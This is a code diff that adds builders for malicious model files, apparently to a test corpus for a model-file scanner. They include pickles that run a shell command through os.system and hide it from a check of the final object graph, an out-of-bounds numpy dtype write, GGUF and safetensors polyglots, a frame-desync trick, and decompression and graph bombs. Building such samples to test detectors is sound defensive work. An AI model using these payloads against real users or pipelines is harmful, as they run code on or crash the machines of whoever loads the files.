@@ -235,6 +235,151 @@ def _polyglot(cmd: str) -> bytes:
     return b"\x80\x04" + body + hidden + b"e."
 
 
+def _scipy_template_swap(cmd: str) -> bytes:
+    """A RandomizedSearchCV whose distribution is BUILT with an exec'd template that carries ``cmd``;
+    afterwards the state dict gets scipy's own template back (a judge of the final graph sees that)."""
+    import scipy.stats
+    from sklearn.linear_model import LogisticRegression
+    from sklearn.model_selection import RandomizedSearchCV
+
+    rng = np.random.RandomState(0)
+    x, y = rng.randn(60, 3), (rng.rand(60) > 0.5).astype(int)
+    search = RandomizedSearchCV(
+        LogisticRegression(), {"C": scipy.stats.uniform(0.1, 2.0)}, n_iter=2, cv=2, random_state=0
+    ).fit(x, y)
+    dist = search.param_distributions["C"].dist
+    good = dist._parse_arg_template
+    evil = good + f"\n__import__('os').system({cmd!r})\n"
+
+    class Swap(pickle._Pickler):  # type: ignore[name-defined,misc]
+        def save_reduce(self, func, args, state=None, *rest, obj=None, **kw):  # type: ignore[no-untyped-def]
+            if obj is dist and state is not None:
+                state = dict(state)
+                state["_parse_arg_template"] = evil
+                super().save_reduce(func, args, None, *rest, obj=obj, **kw)
+                self.save(state)
+                self.write(pickle.BUILD)  # pickle.load runs evil here
+                self.write(pickle.LONG_BINGET + self.memo[id(state)][0].to_bytes(4, "little"))
+                self.save("_parse_arg_template")
+                self.save(good)
+                self.write(pickle.SETITEM + pickle.POP)  # ... and the final graph shows scipy's own
+                return
+            super().save_reduce(func, args, state, *rest, obj=obj, **kw)
+
+    buf = io.BytesIO()
+    Swap(buf, protocol=2).dump(search)
+    return buf.getvalue()
+
+
+def _dtype_fields_swap() -> bytes:
+    """A dtype BUILT with a field 2 GiB past its 8 bytes, used by a masked array (whose fill value is
+    written there), then the fields dict is fixed: pickle.load writes out of bounds, the final graph is fine."""
+    buf = io.BytesIO()
+    p = pickle._Pickler(buf, protocol=2)  # type: ignore[attr-defined]
+    w = p.write
+    w(pickle.PROTO + b"\x02")
+    w(b"cnumpy\ndtype\n")
+    p.save(("V8", False, True))
+    w(pickle.REDUCE + pickle.LONG_BINPUT + (1000).to_bytes(4, "little"))
+    fields = {"a": (np.dtype("<f8"), (1 << 31) - 8)}
+    w(pickle.MARK)
+    for v in (3, "|", None, ("a",)):
+        p.save(v)
+    p.save(fields)
+    for v in (8, 1, 16):
+        p.save(v)
+    w(pickle.TUPLE + pickle.BUILD + pickle.POP)
+    w(b"cnumpy.ma.core\n_mareconstruct\n" + pickle.MARK + b"cnumpy.ma.core\nMaskedArray\ncnumpy\nndarray\n")
+    p.save((0,))
+    p.save(b"b")
+    w(pickle.TUPLE + pickle.REDUCE + pickle.MARK)
+    p.save(1)
+    p.save((1,))
+    w(pickle.LONG_BINGET + (1000).to_bytes(4, "little"))
+    for v in (False, bytes(8), b"\x00", None):
+        p.save(v)
+    w(pickle.TUPLE + pickle.BUILD)
+    w(pickle.LONG_BINGET + p.memo[id(fields)][0].to_bytes(4, "little"))
+    p.save("a")
+    p.save((np.dtype("<f8"), 0))
+    w(pickle.SETITEM + pickle.POP + pickle.STOP)
+    return buf.getvalue()
+
+
+def _pickle_load_ignores_frames(cmd: str) -> bytes:
+    """joblib data read by pickle.load: a FRAME ending inside a GLOBAL stops the Python unpickler, not
+    the C one, which goes on to run ``cmd`` (joblib's stream without alignment: an unseekable target)."""
+    from sklearn.linear_model import LogisticRegression
+
+    payload = b"\x95" + struct.pack("<Q", 4) + b"cpos" + b"ix\nsystem\n"  # the frame ends inside the GLOBAL
+    payload += b"X" + struct.pack("<I", len(cmd)) + cmd.encode() + b"\x85R."
+    rng = np.random.RandomState(0)
+    model = LogisticRegression().fit(rng.randn(40, 3), [0, 1] * 20)
+    model.n_iter_ = np.frombuffer(payload, dtype=np.uint8).copy()
+    state = model.__dict__
+    model.__dict__ = {"n_iter_": state.pop("n_iter_"), **state}  # the first array written
+
+    class NoTell(io.RawIOBase):
+        def __init__(self) -> None:
+            self.data = bytearray()
+
+        def writable(self) -> bool:
+            return True
+
+        def write(self, b: Any) -> int:
+            self.data += b
+            return len(b)
+
+        def tell(self) -> int:
+            raise io.UnsupportedOperation
+
+    sink = NoTell()
+    joblib.dump(model, sink, protocol=2)
+    return bytes(sink.data)
+
+
+def _polyglots(cmd: str) -> dict[str, bytes]:
+    """Files whose header says safetensors or GGUF (no code) and whose bytes are also a pickle."""
+    import json
+
+    payload = b"cposix\nsystem\n(V" + cmd.encode() + b"\ntR."
+    n = 0x56  # 'V' then seven zero bytes: UNICODE up to the next newline swallows the header
+    header = json.dumps({"__metadata__": {"format": "pt"}}).encode()
+    return {
+        "polyglot.gguf": b"GGUF" + (3).to_bytes(4, "little") + b"\x00" + payload,
+        "polyglot.safetensors": n.to_bytes(8, "little") + header + b" " * (n - len(header)) + b"\n" + payload,
+    }
+
+
+def _dag(depth: int = 60) -> bytes:
+    """455 bytes: tuples each holding the previous one twice (2**60 paths through one small graph)."""
+    b = bytearray(b"\x80\x02)q\x00")
+    for i in range(1, depth + 1):
+        b += b"h" + bytes([i - 1]) + b"h" + bytes([i - 1]) + b"\x86q" + bytes([i])
+    return bytes(b + b"ccollections\nOrderedDict\nh" + bytes([depth]) + b"\x85R.")
+
+
+def _array_bomb(gib: int = 2) -> bytes:
+    """A couple of KB of bz2 that joblib decompresses into ``gib`` GiB of array zeros."""
+    import bz2
+
+    count = gib * (1 << 30) // 8
+    buf = io.BytesIO()
+    joblib.dump(np.zeros(3), buf, protocol=2)
+    raw = buf.getvalue()
+    head = raw[: len(raw) - 25].replace(b"K\x03\x85", b"\x8a\x08" + count.to_bytes(8, "little") + b"\x85")
+    c = bz2.BZ2Compressor(9)
+    out = [c.compress(head)]
+    zeros = bytes(64 << 20)
+    left = count * 8
+    while left:
+        n = min(left, len(zeros))
+        out.append(c.compress(zeros[:n]))
+        left -= n
+    out += [c.compress(b"."), c.flush()]
+    return b"".join(out)
+
+
 def _saves(name: str, obj: Any) -> dict[str, Callable[[Path], None]]:
     out: dict[str, Callable[[Path], None]] = {}
     for proto in (2, 3, 4, 5):
@@ -274,6 +419,28 @@ def build(directory: Path, canary: Path, listener: tuple[str, int]) -> dict[str,
             for fname, save in _saves(name, obj).items():
                 save(directory / fname)
                 families[family][fname] = directory / fname
+    # Time of check, time of use: a state changed after a plain load used it.
+    families["toctou"] = {}
+    for name, data in (("scipy_template_swap", _scipy_template_swap(cmd)), ("dtype_fields_swap", _dtype_fields_swap())):
+        variants = {f"{name}.pkl": data}
+        variants.update({f"{name}.{c}.joblib": _compressed(data, c) for c in joblib_compressors()})
+        for fname, content in variants.items():
+            (directory / fname).write_bytes(content)
+            families["toctou"][fname] = directory / fname
+    (directory / "pickle_load_ignores_frames.joblib").write_bytes(_pickle_load_ignores_frames(cmd))
+    families["desync"]["pickle_load_ignores_frames.joblib"] = directory / "pickle_load_ignores_frames.joblib"
+    extra = {**_polyglots(cmd), "shared_tuples_dag.pkl": _dag(), "array_bomb.bz2.joblib": _array_bomb()}
+    for fname, content in extra.items():
+        (directory / fname).write_bytes(content)
+        families["other"][fname] = directory / fname
+    import skops.io
+    from sklearn.linear_model import LogisticRegression
+    from sklearn.preprocessing import FunctionTransformer
+
+    hidden = LogisticRegression().fit(np.random.RandomState(0).rand(20, 2), [0, 1] * 10)
+    hidden.extra_ = [*range(60), FunctionTransformer(func=os.system)]  # past any summary's item limit
+    skops.io.dump(hidden, directory / "hidden_past_the_summary.skops")
+    families["other"]["hidden_past_the_summary.skops"] = directory / "hidden_past_the_summary.skops"
     # Pickles under names prov used not to read, and a decompression bomb of trivial opcodes.
     payload = pickle.dumps(Reduce(os.system, (cmd,)), protocol=2)
     for suffix in (".pt", ".pth", ".bin", ".ckpt"):
